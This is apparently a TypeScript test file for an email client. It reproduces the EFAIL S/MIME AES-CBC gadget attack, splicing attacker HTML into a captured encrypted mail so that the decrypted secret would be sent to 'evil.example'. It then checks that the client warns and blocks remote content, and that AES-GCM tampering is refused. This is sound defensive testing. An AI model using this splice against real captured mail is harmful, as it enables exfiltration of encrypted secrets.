// S/MIME AES-CBC malleability (EFAIL CBC gadgets): attacker HTML spliced into a captured EnvelopedData is shown without integrity and never gets remote content.
import { fromBER, type OctetString } from 'asn1js';
import { ContentInfo } from 'pkijs';
import { beforeAll, describe, expect, it } from 'vitest';
import { remoteContentAllowed } from '../../app/services/views.js';
import { open } from '../../crypto/index.js';
import type { ContentEncryption } from '../../crypto/smime/content-encryption.js';
import { encodeEnvelopedData, readEnvelopedData } from '../../crypto/smime/enveloped-data.js';
import { envelopedEntity } from '../../crypto/smime/enveloped-mime.js';
import { smimeEncrypt } from '../../crypto/smime/index.js';
import { text } from '../helpers/message.js';
import { smimeRecipients, type SmimeRecipients } from '../helpers/smime-recipients.js';
import { crlf, encode } from './craft.js';

let people: SmimeRecipients;
beforeAll(async () => {
  people = await smimeRecipients();
});

const SECRET = 'The vault code is 7141.';
/**
 * Alice's HTML mail to Bob. Its first three blocks (the header) follow a template the attacker knows, which is all a
 * CBC gadget needs; the fourth block ("<p>Dear Bob,</p>") is sacrificed when the attacker splices text in after it.
 */
const KNOWN_HEADER = 'Content-Type: text/html\r\nX-Pad: 123456789012\r\n\r\n';
const PLAINTEXT = `${KNOWN_HEADER}<p>Dear Bob,</p><p>${SECRET}</p>\r\n`;
const INJECTED_BEFORE = ['<img src="http:/', '/evil.example/?q'];
/** The last injected block ends in 0x01: a valid PKCS#7 padding, so the whole ciphertext still decrypts. */
const INJECTED_AFTER = '">             \x01';

const HEADER = crlf`
From: Alice <alice@example.org>
To: Bob <bob@example.org>
Subject: sealed
MIME-Version: 1.0
`;

const xor = (...blocks: Uint8Array[]) => (blocks[0] as Uint8Array).map((_, i) => blocks.reduce((x, b) => x ^ (b[i] as number), 0));
const latin1 = (s: string) => Uint8Array.from(s, (c) => c.charCodeAt(0));

/**
 * Rewrites a captured CBC EnvelopedData: (IV ^ P1 ^ X, C1) is a gadget that decrypts to the chosen block X (after one
 * garbage block); it is spliced in after the known header and after the last block, the recipient infos left as they were.
 */
function spliced(cms: Uint8Array): Uint8Array {
  const enveloped = readEnvelopedData(new ContentInfo({ schema: fromBER(cms.slice().buffer).result }).content);
  const algorithm = enveloped.encryptedContentInfo.contentEncryptionAlgorithm;
  const iv = new Uint8Array((algorithm.algorithmParams as OctetString).valueBlock.valueHexView);
  const blocks = Array.from({ length: enveloped.ciphertext.length / 16 }, (_, i) => enveloped.ciphertext.subarray(i * 16, i * 16 + 16));
  const c1 = blocks[0] as Uint8Array;
  const p1 = latin1(KNOWN_HEADER.slice(0, 16));
  const gadget = (chosen: string) => [xor(iv, p1, latin1(chosen)), c1];
  const ciphertext = [
    ...blocks.slice(0, 3),
    ...INJECTED_BEFORE.flatMap(gadget),
    ...blocks.slice(3),
    ...gadget(INJECTED_AFTER),
  ];
  const joined = new Uint8Array(ciphertext.length * 16);
  ciphertext.forEach((b, i) => joined.set(b, i * 16));
  const encrypted: ContentEncryption = { algorithm, ciphertext: joined, mac: new Uint8Array(0) };
  return encodeEnvelopedData(enveloped.recipientInfos, encrypted);
}

async function capturedCbc(): Promise<Uint8Array> {
  const { cms } = await smimeEncrypt({ message: encode(PLAINTEXT), recipients: [people.bob.certificate], sender: people.alice.certificate, gcm: false });
  return cms;
}

const openAsBob = (cms: Uint8Array) =>
  open({
    message: encode(HEADER + text(envelopedEntity(cms, 'enveloped-data'))),
    smime: { trustAnchors: [], identities: async () => [{ certificate: people.bob.certificate, privateKey: people.bob.privateKey }] },
  });

describe('S/MIME CBC ciphertext altered in transit', () => {
  it('the unaltered CBC mail already has integrity none and is never offered remote content (the control)', async () => {
    const report = await openAsBob(await capturedCbc());
    expect(report.encryption).toMatchObject({ state: 'encrypted', scheme: 'smime', integrity: 'none' });
    expect(report.html).toContain(SECRET);
    expect(remoteContentAllowed(report)).toBe(false);
  });

  it('shows attacker HTML spliced before and after the secret as integrity none, warns, and refuses remote content', async () => {
    const report = await openAsBob(spliced(await capturedCbc()));
    // The gadgets worked: the attacker's blocks and the secret decrypt into one HTML body, nothing detected.
    expect(report.encryption).toMatchObject({ state: 'encrypted', scheme: 'smime', integrity: 'none' });
    const html = report.html ?? '';
    for (const chunk of INJECTED_BEFORE) expect(html).toContain(chunk);
    expect(html).toContain(SECRET);
    expect(html.indexOf(INJECTED_BEFORE[1] as string)).toBeLessThan(html.indexOf(SECRET));
    expect(html).toContain('">');
    expect(report.warnings.join('\n')).toMatch(/without integrity protection/);
    expect(report.signature.state).toBe('none');
    expect(remoteContentAllowed(report)).toBe(false);
  });

  it('the same splice into AES-GCM AuthEnvelopedData is refused outright (the contrast: authenticated mail may load remote content)', async () => {
    const { cms } = await smimeEncrypt({ message: encode(PLAINTEXT), recipients: [people.bob.certificate], sender: people.alice.certificate, gcm: true });
    const message = encode(HEADER + text(envelopedEntity(cms, 'authEnveloped-data')));
    const identities = async () => [{ certificate: people.bob.certificate, privateKey: people.bob.privateKey }];
    const report = await open({ message, smime: { trustAnchors: [], identities } });
    expect(report.encryption.integrity).toBe('authenticated');
    expect(remoteContentAllowed(report)).toBe(true);

    const b64 = text(message).split('\r\n\r\n').slice(-1)[0] as string;
    const tamperedAt = b64.length - 120;
    const tampered = text(message).replace(b64, b64.slice(0, tamperedAt) + (b64[tamperedAt] === 'A' ? 'B' : 'A') + b64.slice(tamperedAt + 1));
    const refused = await open({ message: encode(tampered), smime: { trustAnchors: [], identities } });
    expect(refused.encryption.state).toBe('failed');
    expect(refused.html).toBeNull();
    expect(JSON.stringify(refused)).not.toContain('7141');
    expect(remoteContentAllowed(refused)).toBe(false);
  });
});
